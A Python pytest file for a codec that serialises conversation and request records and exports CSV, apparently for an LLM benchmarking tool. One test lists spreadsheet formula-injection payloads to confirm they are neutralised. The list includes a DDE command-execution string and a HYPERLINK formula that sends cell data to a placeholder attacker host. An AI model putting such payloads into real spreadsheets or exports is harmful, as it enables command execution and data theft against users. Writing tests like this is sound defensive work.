import csv
import io
from datetime import UTC, datetime

import pytest

from core.codec import decode, encode, to_csv
from core.domain.conversation import Message, Role, Sampling
from core.domain.specs import EngineKind, LaneSpec, ModelSpec, Weights
from core.domain.timing import Timing
from core.domain.turns import (
    ErrorInfo,
    FinishReason,
    Phase,
    RequestPlan,
    RequestRecord,
    TurnPlan,
)
from core.errors import InputError

LANE = LaneSpec(
    name="hf-q4",
    kind=EngineKind.TRANSFORMERS,
    model=ModelSpec(name="m", checkpoint="/m", gguf="/m/m.gguf"),
    weights=Weights.GGUF,
)


def test_a_plan_survives_the_round_trip():
    plan = TurnPlan(
        conversation_id="c",
        prompt="你好",
        sampling=Sampling(seed=7),
        requests=(RequestPlan(lane=LANE, messages=(Message(Role.USER, "你好"),)),),
    )
    assert decode(TurnPlan, encode(plan)) == plan


def test_what_was_written_before_there_were_images_is_read():
    message = decode(Message, b'{"role": "user", "content": "Hi"}')
    assert message == Message(Role.USER, "Hi")
    plan = TurnPlan(
        conversation_id="c",
        prompt="Hi",
        sampling=Sampling(),
        requests=(RequestPlan(lane=LANE, messages=(message,)),),
    )
    written = encode(plan)
    assert written.count(b',"images":[]') == 2
    assert decode(TurnPlan, written.replace(b',"images":[]', b"")) == plan


def test_a_record_survives_the_round_trip():
    record = RequestRecord(
        id="r",
        turn_id="t",
        lane=LANE,
        messages=(),
        phase=Phase.DONE,
        sent_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        timing=Timing(sent_ns=1, chunk_ns=(2, 3), content_chars=(1, 1), chunk_tokens=(1, 2)),
        finish_reason=FinishReason.ERROR,
        error=ErrorInfo("engine-crashed", "It died."),
    )
    assert decode(RequestRecord, encode(record)) == record


def test_a_wrong_field_is_named():
    with pytest.raises(InputError, match=r"Sampling: max_tokens: ") as caught:
        decode(Sampling, b'{"max_tokens": "many"}')
    assert caught.value.code == "bad-record"


def test_text_that_is_not_json_is_an_input_error():
    with pytest.raises(InputError, match="the document"):
        decode(Sampling, b"{")


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "\uff1d1",
    ],
)
def test_a_text_is_no_formula(text):
    (row,) = csv.DictReader(io.StringIO(to_csv(["lane"], [{"lane": text}]), newline=""))
    assert row["lane"] == f"'{text}".replace("\r", "\n")


def test_everything_else_stays_as_it_is():
    rows = [{"a": "plain", "b": -1.5, "c": None, "d": "", "e": "a=b", "f": True}]
    assert to_csv("abcdef", rows) == "a,b,c,d,e,f\nplain,-1.5,,,a=b,True\n"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_text_stays_one_cell_where_another_delimiter_is_expected(delimiter):
    text = to_csv(["lane", "n"], [{"lane": f"a{delimiter}=1+1", "n": None}])
    _, line = text.splitlines()
    assert line == f'"a{delimiter}=1+1",""'
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"lane": f"a{delimiter}=1+1", "n": ""}
